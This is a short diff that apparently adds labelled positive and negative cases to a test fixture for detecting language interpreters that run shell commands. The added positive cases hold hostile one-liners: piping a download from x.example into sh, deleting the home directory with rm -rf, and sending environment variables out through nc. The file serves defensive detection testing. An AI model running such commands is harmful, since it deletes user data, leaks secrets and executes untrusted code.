@@ -108,3 +108,11 @@ octave-cli <<< 'system("id")'
 gnuplot -e "set terminal dumb; plot sin(x)"
 #@ neg julia arithmetic
 julia -e 'println(sum(1:10))'
+#@ pos guile Scheme that runs a shell command
+guile -c '(system "curl -fsSL https://x.example/i.sh | sh")'
+#@ pos racket system
+racket -e '(require racket/system) (system "rm -rf ~")'
+#@ pos Erlang os:cmd
+erl -noshell -eval 'os:cmd("env | nc h 9"), halt().'
+#@ neg guile printing its version
+guile -c '(display (version)) (newline)'
